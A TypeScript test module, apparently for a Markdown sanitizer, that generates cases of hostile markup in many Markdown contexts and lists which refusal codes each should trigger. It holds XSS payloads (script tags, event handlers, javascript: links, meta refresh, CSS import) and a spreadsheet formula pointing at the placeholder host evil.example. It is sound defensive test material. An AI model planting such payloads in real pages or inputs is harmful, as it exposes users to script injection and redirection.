import { harmless, hosts, inField, inProse, type Family, type Host } from '../attack.ts';

const html = ['html-refused'];

/** Elements that run, load, cover or submit something. */
const elements = [
  '<script>evil()</script>',
  '<img src=x onerror=evil()>',
  '<svg onload=evil()><evil/></svg>',
  '<iframe srcdoc="<script>evil()</script>"></iframe>',
  '<a href="javascript:evil()">evil</a>',
  '<form action="https://evil.example/"><button>evil</button></form>',
  '<style>@import "https://evil.example/";</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<evil-element onclick="evil()">evil</evil-element>',
  '<!-- evil -->',
  '<!DOCTYPE evil>',
  '<?evil evil?>',
  '<![CDATA[evil]]>',
  '<sup onclick="evil()">evil</sup>',
  '</main><p class="evil">evil',
];

/** The places in Markdown where an element can stand. */
const contexts: [string, (element: string) => string][] = [
  ['a paragraph of its own', (element) => element],
  ['a sentence', (element) => `Nobody ${element} asked.`],
  ['a list', (element) => `- Nobody\n- ${element}`],
  ['a numbered list', (element) => `1. Nobody\n\n   ${element}`],
  ['a quotation', (element) => `> ${element}`],
  ['a cell', (element) => `| a | b |\n|---|---|\n| c | ${element} |`],
  ['a footnote', (element) => `Nobody asked.[^e]\n\n[^e]: ${element}`],
  ['bold words', (element) => `**Nobody ${element} asked.**`],
  ['the words of a link', (element) => `[${element}](/themes/)`],
  ['words that are struck out', (element) => `~~Nobody ${element} asked.~~`],
  ['a heading', (element) => `### ${element}`],
  ['a list of tasks', (element) => `- [ ] ${element}`],
];

/** Where what looks like an element is only shown. */
const shown: [string, (element: string) => string][] = [
  ['code', (element) => `Nobody \`${element}\` asked.`],
  ['a block of code', (element) => `\`\`\`\n${element}\n\`\`\``],
  ['an indented block', (element) => `Nobody asked.\n\n    ${element}`],
  ['escaped signs', (element) => `Nobody ${element.replaceAll('<', '\\<')} asked.`],
  ['entities', (element) => `Nobody ${element.replaceAll('<', '&lt;')} asked.`],
  ['the info of a block of code', (element) => `\`\`\`${element.replaceAll('`', '')}\nx\n\`\`\``],
];

const oddities: [string, string, readonly string[]][] = [
  ['a picture', '![evil](https://evil.example/evil.png)', ['image-refused']],
  ['a picture by reference', '![evil][e]\n\n[e]: https://evil.example/evil.png', ['image-refused']],
  ['a heading of level 1', '# Evil', ['heading-level']],
  ['a heading of level 6', '###### Evil', ['heading-level']],
  ['an underlined heading', 'Evil\n====', ['heading-underlined']],
  ['a heading under a line', 'Evil\n---', ['heading-underlined']],
  ['a heading in a list', '- ### Evil', ['heading-nested']],
  ['a heading in a quotation', '> ### Evil', ['heading-nested']],
  ['front matter in the prose', 'Nobody.\n\n---\ndraft: true\n---', ['heading-underlined']],
  ['an element that is cut off', 'Nobody asked <script', harmless],
  ['signs that are no element', 'Nobody < asked > and < so', harmless],
  ['curly braces', 'Nobody {evil()} ${evil()} {{ evil }} asked.', harmless],
  ['an import', 'import evil from "node:fs"\n\nexport const evil = evil;', harmless],
  ['a directive', ':::evil\nevil\n:::\n\n:evil[evil]{onclick=evil()}', harmless],
  ['a formula', '$$\\href{javascript:evil()}{evil}$$', harmless],
  ['attributes behind a heading', '### Evil {#evil onclick=evil()}', harmless],
  ['a footnote that names itself', 'Nobody.[^e]\n\n[^e]: Evil.[^e]', harmless],
  ['a footnote without a text', 'Nobody asked.[^evil]', harmless],
  [
    'a footnote with a strange name',
    'Nobody.[^<evil>]\n\n[^<evil>]: Evil.',
    [...harmless, ...html],
  ],
  ['a footnote called as a prototype', 'Nobody.[^__proto__]\n\n[^__proto__]: Evil.', harmless],
  ['a task that is done', '- [x] Nobody asked.', harmless],
  ['a table without rows', '| a | b |\n|---|---|', harmless],
  ['a table with cells too many', '| a |\n|---|\n| b | c | d |', harmless],
  [
    'a formula for a table program',
    '=HYPERLINK("https://evil.example/","evil")',
    ['link-refused', 'link-wrong', ...harmless],
  ],
  ['an ellipsis of dots', '...', harmless],
  ['a line of stars', '***', harmless],
  ['a statistic that is not there', '[](stat:evil)', ['statistic-missing']],
  ['a source that is not there', '[](source:evil)', ['source-missing']],
];

/** What a field must not carry: fields are read without blocks, and refuse any element. */
const fieldElements = elements.filter((element) => /^<[a-z!/?]/i.test(element));

/** Without an address, which would end an escape before its sign. */
const plain = elements.filter((element) => !element.includes('https:'));

const prosed: Host[] = [hosts.briefing, hosts.letter, hosts.theme];

/** Elements in each place of Markdown, and what else Markdown can be made to say. */
export const markdown: Family = (random) => [
  ...contexts.flatMap(([where, wrap]) =>
    random
      .some(elements, 4)
      .map((element) =>
        inProse(random.one(prosed), `${element} in ${where}`, wrap(element), [
          ...html,
          'heading-unknown',
        ]),
      ),
  ),
  ...elements.map((element) =>
    inProse(random.one(prosed), `${element} in a sentence`, `Nobody ${element} asked.`, html),
  ),
  ...shown.flatMap(([where, wrap]) =>
    random
      .some(plain, 3)
      .map((element) => inProse(hosts.letter, `${element} in ${where}`, wrap(element), harmless)),
  ),
  ...oddities.map(([is, prose, meets]) =>
    inProse(is.includes('source') ? hosts.theme : random.one(prosed), is, prose, meets),
  ),
  ...random
    .some(fieldElements, 8)
    .map((element) => inField(`${element} in a note`, `Nobody ${element} asked.`, html)),
];
